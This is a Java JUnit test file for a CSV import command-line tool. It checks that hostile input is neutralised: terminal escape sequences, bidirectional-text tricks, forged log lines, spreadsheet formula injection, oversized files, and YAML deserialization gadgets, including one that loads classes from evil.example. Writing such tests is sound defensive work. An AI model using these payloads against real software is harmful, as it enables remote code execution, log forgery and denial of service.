package dev.dubimport.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.dubimport.cli.Session.Said;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.Writer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Content and names that were made to harm: docs/security.md. */
class HostileInputTest {
    private static final String HEADER = "externalId,amount,paymentProcessor,invoiceId,currency\n";

    /** A screen cleared, a title, a link (OSC 8), the clipboard (OSC 52), C1, a forged line, a turned direction. */
    private static final String EVIL =
            "\u001b[2J\u001b]0;x\u0007\u001b]8;;http://evil.example\u0007y\u001b]52;c;ZQ==\u0007"
                    + "\u009b31m\u0085\u2028\u202e\u2066\u200f<script>alert(1)</script>";

    @TempDir
    Path folder;

    private Session session;

    @BeforeEach
    void open() {
        session = new Session(folder);
    }

    @AfterEach
    void close() {
        session.close();
    }

    @Test
    void noCellCommandsTheTerminalTheLogOrTheJson() {
        Path file = session.file(
                "sales.csv",
                HEADER.replace("currency", "currency," + EVIL)
                        + "\"c\",\"1" + EVIL + "\",\"" + EVIL + "\nWARN forged\",\"i" + EVIL + "\",\"" + EVIL + "\",x\n"
                        + "\"guest-" + EVIL + "\",5,stripe,\"g" + EVIL + "\",usd,x\n"
                        + "\"c\",5,stripe,\"j" + EVIL + "\",usd,x\n");

        assertHarmless(session.run("validate", file.toString()));
        assertHarmless(session.importing(file));
        assertHarmless(session.importing(file, "--json"));
        assertHarmless(session.run("status", "--data-dir", session.dataFolder().toString()));
    }

    @Test
    void noFileNameCommandsThem() {
        Path file = session.file("s" + EVIL.replace("/", "_") + "\nWARN forged.csv", HEADER + "c,x,stripe,I,usd\n");

        assertHarmless(session.run("validate", file.toString(), "--rejects", file + ".rejects"));
        assertHarmless(session.importing(file));
        assertHarmless(session.importing(file, "--json"));
        assertHarmless(session.importing(file.resolveSibling(file.getFileName() + "no such")));
        assertHarmless(session.importing(file, "--rejects", file.toString()));
        assertHarmless(session.importing(file, "--mapping", file.toString()));
        assertHarmless(session.importing(file, "--rate", EVIL));
        assertHarmless(session.importing(file, "--concurrency", EVIL));
        assertHarmless(session.importing(file, EVIL));
        assertHarmless(session.run("status", "--data-dir", session.dataFolder().toString()));
        assertHarmless(session.run(
                "status", "--data-dir", folder.resolve(EVIL.replace("/", "_")).toString()));
        assertHarmless(session.run("status", "--data-dir", file.toString()));
    }

    @Test
    void noWorkspaceNameCommandsThem() {
        Path file = session.file("sales.csv", HEADER + "c,5,stripe,I,usd\n");

        Said said = session.importingTo("acme" + EVIL, file);

        assertHarmless(said);
        assertThat(said.exitCode()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "'=1", "\uff1d1"})
    void noCellOfTheRejectsIsAFormula(String cell) throws IOException {
        Path file = session.file("sales.csv", HEADER + "\"" + cell + "\",x,stripe,I,usd\n");
        Path rejects = folder.resolve("rejects.csv");

        session.importing(file, "--rejects", rejects.toString());

        assertThat(Files.readString(rejects)).contains("'" + cell);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://evil.example']]]] | no mapping",
                "columns: !!java.util.Date 2020-01-01 | tag",
                "a: &a [x, x]\\nb: &b [*a, *a]\\nc: [*b, *b] | anchor",
                "a: {b: {c: {d: {e: {f: {g: {h: {i: {j: {k: {l: m}}}}}}}}}}} | not YAML",
                "<<: *x | alias",
            })
    void aMappingIsTextAndNothingElse(String yaml, String rule) {
        Path mapping = session.file("mapping.yml", yaml.replace("\\n", "\n"));
        Path file = session.file("sales.csv", HEADER + "c,5,stripe,I,usd\n");

        Said said = session.importing(file, "--mapping", mapping.toString());

        assertThat(said.exitCode()).isEqualTo(2);
        assertThat(said.err()).contains("mapping.yml").contains(rule).doesNotContain("\tat ");
        assertThat(session.calls()).isZero();
    }

    @Test
    void aMappingOfAnySizeIsNotReadBeyondWhatAMappingNeeds() throws IOException {
        Path mapping = big("mapping.yml", "columns:\n", "x".repeat(1_000), 100_000);
        Path file = session.file("sales.csv", HEADER + "c,5,stripe,I,usd\n");

        Said said = session.importing(file, "--mapping", mapping.toString());

        assertThat(said.err()).contains("more than 100,000 bytes");
    }

    @Test
    void memoryIsBoundedWhateverTheFileHolds() throws Exception {
        String megabyte = "x".repeat(1_000_000);
        Path noLineBreak = big("no-line-break.csv", HEADER, megabyte, 4);
        lengthen(noLineBreak, 1L << 30);
        Path field = big("field.csv", HEADER + "c,5,stripe,\"", megabyte, 4);
        lengthen(field, 100_000_000);
        Path columns = big("columns.csv", "", "c,".repeat(100_000), 10);

        assertThat(validated(noLineBreak)).contains("no-line-break.csv:2").doesNotContain("OutOfMemory");
        assertThat(validated(columns)).contains("columns.csv").doesNotContain("OutOfMemory");
        assertThat(validated(field)).contains("field.csv:2").doesNotContain("OutOfMemory");
    }

    /** Up to a length that costs no disk: who read as far as there would say that it is not text. */
    private static void lengthen(Path file, long bytes) throws IOException {
        try (RandomAccessFile whole = new RandomAccessFile(file.toFile(), "rw")) {
            whole.setLength(bytes);
        }
    }

    private String validated(Path file) throws InterruptedException {
        ChildProcess child = ChildProcess.startWith(
                List.of("-Xmx128m"), folder.resolve("output-" + file.getFileName()), "validate", file.toString());
        assertThat(child.exitCode()).as(child.said()).isIn(1, 2);
        return child.said();
    }

    private Path big(String name, String start, String part, int times) throws IOException {
        Path file = folder.resolve(name);
        try (Writer writer = Files.newBufferedWriter(file)) {
            writer.write(start);
            for (int i = 0; i < times; i++) {
                writer.write(part);
            }
        }
        return file;
    }

    private static void assertHarmless(Said said) {
        String all = said.out() + said.err();
        assertThat(all).isNotEmpty();
        assertThat(all.codePoints().filter(HostileInputTest::isHarmful).mapToObj(Integer::toHexString))
                .as(all)
                .isEmpty();
        assertThat(all.lines()).noneMatch(line -> line.startsWith("WARN forged"));
    }

    private static boolean isHarmful(int c) {
        boolean control = c < ' ' && c != '\n' && c != '\t' && c != '\r';
        return control
                || (c >= 0x7f && c <= 0x9f)
                || (c >= 0x2028 && c <= 0x202e)
                || (c >= 0x2066 && c <= 0x2069)
                || c == 0x200f;
    }
}
